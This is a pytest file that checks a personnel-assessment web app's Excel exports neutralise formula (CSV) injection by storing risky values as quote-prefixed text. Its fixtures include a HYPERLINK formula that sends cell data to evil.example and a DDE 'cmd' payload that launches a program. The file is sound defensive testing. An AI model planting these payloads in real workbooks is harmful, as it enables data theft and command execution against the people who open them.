"""Formula injection in Excel exports (issue 16.3): text a spreadsheet could run is text.

OWASP's CSV-injection rule: a value starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is a formula to Excel, LibreOffice and WPS. Every workbook Kaohe writes
stores such text as a text cell with Excel's quote prefix (as if the user had typed
``'=…``), so it is neither evaluated on opening nor on editing, and keeps its value so
that it imports back unchanged. Numbers, negative ones included, stay numbers.
"""
from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from kaohe.extensions import db
from kaohe.officials.models import Official
from tests import ua_helpers
from tests.helpers import table_counts, text
from tests.interop_support import official_row, upload, workbook

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _formulas(data: bytes) -> list[str]:
    """The formulas (``<f>`` elements) of every sheet of an .xlsx file."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f[ >].*?</f>|<f/>", z.read(name).decode())]


def _cells(data: bytes, sheet: str | None = None) -> dict:
    """value → (data type, quote prefix) of every non-empty cell of ``sheet``."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return {c.value: (c.data_type, c.quotePrefix) for row in ws.iter_rows() for c in row
            if c.value is not None}


def _assert_text(data: bytes, values, sheet: str | None = None) -> None:
    cells = _cells(data, sheet)
    assert _formulas(data) == []
    for value in values:
        # openpyxl keeps a CR (escaped) when it writes with lxml, which python-docx brings;
        # without lxml, XML reads a bare CR back as a line feed.
        found = cells.get(value) or cells.get(value.replace("\r", "\n"))
        assert found == ("s", True), (value, found)


@pytest.fixture
def district(make):
    city = make.unit(name="江州市", kind="city", code="JZ")
    unit = make.unit(name="东城区", kind="county", parent=city, code="DC")
    make.commit()
    return unit


@pytest.mark.parametrize("start", STARTS)
def test_officials_export_writes_formula_text_as_text(auth, make, district, start):
    values = {"native_place": start + "1+1", "school_fulltime": start + 'cmd|" /C calc"!A0',
              "current_post": start + LINK[1:]}
    official = make.official(name=LINK if start == "=" else "王建国", unit_obj=district, **values)
    make.commit()
    data = auth.as_role("organization").get("/interop/export/officials.xlsx").data
    stored = [getattr(official, k) for k in values]
    assert all(v.startswith(start) for v in stored)  # the service kept them as entered
    _assert_text(data, stored + ([LINK] if start == "=" else []))
    header = _cells(data)["姓名"]
    assert header == ("s", False)  # ordinary text is left alone


def _with_cached_formula(data: bytes, placeholder: str, cached: str) -> bytes:
    """``data`` with the text cell ``placeholder`` turned into a formula cell whose cached
    result is the text ``cached`` (what Excel saves for a formula giving a string)."""
    out = io.BytesIO()
    escaped = cached.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                body, count = re.subn(
                    rb'<c r="([A-Z]+[0-9]+)" t="inlineStr"><is><t>' + placeholder.encode()
                    + rb"</t></is></c>",
                    lambda m: (b'<c r="' + m.group(1) + b'" t="str"><f>T("'
                               + escaped.encode() + b'")</f><v>' + escaped.encode() + b"</v></c>"),
                    body)
                assert count == 1
            dst.writestr(item, body)
    return out.getvalue()


def test_imported_cached_hyperlink_goes_back_out_as_text_and_round_trips(auth, make, district):
    number = make.id_number(dt.date(1975, 3, 8))
    data = workbook("officials", [official_row("王建国", number, 现任职务="PLACEHOLDER")])
    client = auth.as_role("organization")
    assert "新增 1 条" in text(upload(client, "officials", _with_cached_formula(
        data, "PLACEHOLDER", LINK)))
    official = db.session.scalar(select(Official).where(Official.id_number == number))
    assert official.current_post == LINK  # the import reads cached values
    exported = client.get("/interop/export/officials.xlsx").data
    _assert_text(exported, [LINK])
    before = table_counts()
    assert "1 条与已有记录相同未作改动" in text(upload(client, "officials", exported))
    assert table_counts() == before


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_export_imports_back_unchanged(auth, make, district, start):
    make.official(name="王建国", unit_obj=district, native_place=start + "2+3",
                  school_fulltime=start + "SUM(A1:A9)", current_post=start + LINK[1:])
    make.commit()
    client = auth.as_role("organization")
    exported = client.get("/interop/export/officials.xlsx").data
    before = table_counts()
    assert "1 条与已有记录相同未作改动" in text(upload(client, "officials", exported))
    assert table_counts() == before


@pytest.fixture
def hostile_round(make, monkeypatch):
    ua_helpers.no_discipline(monkeypatch)
    s = ua_helpers.scheme()
    units = [make.unit(code=f"Q{i}", name=name, kind="county", leader_in_charge=leader)
             for i, (name, leader) in enumerate([(LINK, "@SUM(1,2)"), ("-2+3", "\tcmd"),
                                                  ("西区", "+1")], start=1)]
    for unit, ratio in zip(units, (1.0, 0.8, 0.6)):
        ua_helpers.fill(s, unit, ratio)
    for _ in range(2):  # a total below zero
        ua_helpers.event(s, units[2], "other_deduction", 30)
    db.session.commit()
    return s


def _row_of(data: bytes, unit: str) -> list:
    """The row naming ``unit``; numbers as numbers (a number stored as text would fail ==)."""
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    row = next(r for r in ws.iter_rows() if r[1].value == unit)
    assert all(c.data_type == "n" for c in row if isinstance(c.value, (int, float)))
    return [c.value for c in row]


def test_ranking_export_writes_unit_names_as_text(auth, hostile_round):
    url = f"/interop/unit-assessment/schemes/{hostile_round.id}/full/ranking.xlsx"
    data = auth.as_role("assessment").get(url).data
    _assert_text(data, [LINK, "-2+3"])
    assert _row_of(data, "西区")[:8] == [3, "西区", "Q3", 54, 0, 0, 60, -6]  # numbers stay numbers


def test_publication_export_writes_names_and_leaders_as_text(auth, hostile_round):
    url = f"/unit-assessment/schemes/{hostile_round.id}/full/publication.xlsx"
    response = auth.as_role("assessment").get(url)
    assert response.status_code == 200
    _assert_text(response.data, [LINK, "-2+3", "@SUM(1,2)", "\tcmd", "+1"])
    assert _row_of(response.data, "西区")[:8] == [3, "西区", -6, "较差", "西区", "+1", 0, 60]
